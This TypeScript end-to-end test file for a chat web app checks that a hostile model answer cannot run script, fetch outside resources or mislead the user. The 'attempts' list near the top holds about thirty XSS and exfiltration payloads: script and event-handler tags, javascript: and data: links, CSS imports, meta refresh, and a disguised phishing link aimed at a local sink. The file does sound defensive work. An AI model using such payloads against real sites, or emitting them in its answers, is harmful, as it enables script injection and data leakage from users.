import type { Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { startLoopbackServer } from '../../src/base/loopback-server.ts';
import { fileBrowser, newContext, openPage } from './browser.ts';
import { scriptedServer } from './scripted-model.ts';
import { ask } from './steps.ts';
import { english } from './words.ts';

const browser = fileBrowser();
const scripted = scriptedServer();

/** Answers everything and keeps who asked: whatever arrives here has left the page. */
async function startSink(): Promise<{ url: string; host: string; seen: string[] }> {
  const seen: string[] = [];
  const server = await startLoopbackServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  onTestFinished(() => server.close());
  return { url: server.url, host: new URL(server.url).host, seen };
}

/** What an answer can try in markdown and HTML to fetch something, to run something or to lead astray. */
const attempts = (sink: string): readonly string[] => [
  `![inline](${sink}/inline.png?rows=1234)`,
  `![by reference][picture]\n\n[picture]: ${sink}/reference.png`,
  `[![in a link](${sink}/linked.png)](${sink}/target)`,
  `![of data](data:image/svg+xml,<svg onload="alert(1)"/>)`,
  `<img src="${sink}/img.png" onerror="window.hacked=1">`,
  `Inline <img src=${sink}/inline-img.png srcset="${sink}/set.png 2x"> too`,
  `<svg onload="window.hacked=2;alert(2)"><image href="${sink}/svg.png"/></svg>`,
  `<script>window.hacked=3;fetch("${sink}/script")</script>`,
  `<style>@import url("${sink}/style.css"); body{background:url("${sink}/body.png")}</style>`,
  `<meta http-equiv="refresh" content="0;url=${sink}/refresh">`,
  `<link rel="stylesheet" href="${sink}/link.css"><link rel="prefetch" href="${sink}/prefetch">`,
  `<iframe src="${sink}/frame" srcdoc="<script>parent.hacked=4</script>"></iframe>`,
  `<form action="${sink}/form"><button autofocus>Sign in again</button></form>`,
  `<div style="position:fixed;inset:0;background:url(${sink}/div.png)">covers everything</div>`,
  `<video poster="${sink}/poster.png" autoplay><source src="${sink}/video"></video><audio src="${sink}/audio" autoplay></audio>`,
  `<details open ontoggle="window.hacked=5">opens</details>`,
  '[script](javascript:window.hacked=6)',
  '[script in capitals](JaVaScRiPt:alert(6))',
  '[with blanks](java&#10;script:alert(7))',
  '[data](data:text/html,<script>alert(8)</script>)',
  '[vbscript](vbscript:msgbox(9))',
  '<javascript:alert(10)>',
  `[https://cloud.looker.com/login](${sink}/phishing)`,
  `<a href="${sink}/html-link" onclick="window.hacked=7" ping="${sink}/ping">html link</a>`,
  `${sink}/autolink`,
  `| a | b |\n|---|---|\n| ![cell](${sink}/cell.png) | <img src=${sink}/cell-img.png> |`,
  `A note[^1]\n\n[^1]: ![note](${sink}/note.png)`,
  '```html\n<img src=x onerror="window.hacked=8">\n```',
  '&lt;img src=x onerror=&quot;window.hacked=9&quot;&gt;',
  '- [x] <img src=x onerror="window.hacked=10">',
];

/** Cut into small pieces, so that every attempt is also rendered while it is half there. */
const pieces = (text: string): string[] => text.match(/[^]{1,23}/g) ?? [];

/** Notes what the page's own policy had to stop, from before its first script. */
const watchPolicy = (page: Page): Promise<unknown> =>
  page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      violations.push(`${violatedDirective} ${blockedURI}`),
    );
  });

const happened = (page: Page): Promise<unknown> =>
  page.evaluate(() => [Reflect.get(window, 'violations'), Reflect.get(window, 'hacked') ?? 'nothing ran']);

/** A page on which the policy is watched, and every request to elsewhere noted. */
async function watchedPage(): Promise<{ page: Page; elsewhere: string[] }> {
  const { server } = scripted();
  const context = await newContext(browser());
  const elsewhere: string[] = [];
  context.on('request', request => {
    if (new URL(request.url()).origin !== server.url) elsewhere.push(request.url());
  });
  context.on('page', opened => void watchPolicy(opened));
  const page = await openPage(context, 'about:blank');
  elsewhere.length = 0;
  await watchPolicy(page);
  await page.goto(server.url);
  return { page, elsewhere };
}

test('a hostile answer fetches nothing, runs nothing and leads nowhere unsaid', async () => {
  const sink = await startSink();
  const { page, elsewhere } = await watchedPage();
  const all = attempts(sink.url);
  scripted().script(pieces(all.join('\n\n')));
  const turn = await ask(page, 'Say what you like');
  const { server } = scripted();

  expect(await happened(page)).toEqual([[], 'nothing ran']);
  expect(new URL(page.url()).origin).toBe(server.url);
  const made =
    'img, svg image, script, style, link, meta, iframe, object, embed, video, audio, form, base, [style*="url"]';
  expect(await turn.locator(made).count()).toBe(0);
  const handlers = await turn.evaluate(element =>
    [...element.querySelectorAll('*')].flatMap(({ attributes }) =>
      [...attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
    ),
  );
  expect(handlers).toEqual([]);
  // HTML stands there as the text it is, or not at all; the pictures' descriptions are kept as words.
  expect(await turn.innerText()).toContain(english('chat.image', { text: 'inline' }));

  const links = await turn.locator('a').evaluateAll(found =>
    found.map(link => ({
      href: link.getAttribute('href') ?? '',
      rel: link.getAttribute('rel'),
      target: link.getAttribute('target'),
      beside: link.parentElement?.textContent ?? '',
      download: link.hasAttribute('download') || link.hasAttribute('ping'),
    })),
  );
  expect(links.map(({ href }) => href)).toContain(`${sink.url}/phishing`);
  for (const link of links) {
    expect(link).toMatchObject({ rel: 'noopener noreferrer', target: '_blank', download: false });
    expect(link.href).toMatch(/^https?:/);
    expect(link.beside).toContain(`(${new URL(link.href).host})`);
  }

  // The same again as history: a reload renders it at once.
  await page.reload();
  await turn.and(page.locator('[aria-busy="false"]')).waitFor();
  expect(await happened(page)).toEqual([[], 'nothing ran']);
  expect(elsewhere).toEqual([]);
  expect(sink.seen).toEqual([]);
});

test('a link of an answer opens apart, and the page that it opens cannot reach back', async () => {
  const sink = await startSink();
  const { page } = await watchedPage();
  scripted().script([`[more](${sink.url}/page)`]);
  const turn = await ask(page, 'Where is more?');
  const [opened] = await Promise.all([
    page.context().waitForEvent('page'),
    turn.getByRole('link', { name: 'more' }).click(),
  ]);
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  expect(sink.seen).toContain('GET /page');
});

test('a question in markup is shown as it was typed', async () => {
  const sink = await startSink();
  const { page, elsewhere } = await watchedPage();
  scripted().script(['Yes.']);
  const question = `<img src="${sink.url}/q.png" onerror="window.hacked=1"> ![x](${sink.url}/q2.png)`;
  const turn = await ask(page, question);
  expect(await turn.getByRole('heading', { level: 2 }).innerText()).toContain(question);
  // It names the conversation too.
  await page.getByRole('navigation').getByText(question.slice(0, 20)).waitFor();
  expect(await happened(page)).toEqual([[], 'nothing ran']);
  expect([...elsewhere, ...sink.seen]).toEqual([]);
});

test('the policy that stands behind all this allows no foreign script, picture or frame', async () => {
  const answer = await fetch(scripted().server.url, { headers: { accept: 'text/html' } });
  const policy = new Map(
    (answer.headers.get('content-security-policy') ?? '').split(';').map(part => {
      const [name = '', ...values] = part.trim().split(/\s+/);
      return [name, values.join(' ')];
    }),
  );
  expect(policy.get('default-src')).toBe("'self'");
  expect(policy.get('script-src')).toBe("'self'");
  expect([...policy.values()].join(' ')).not.toMatch(/unsafe-eval|\*|https?:/);
});
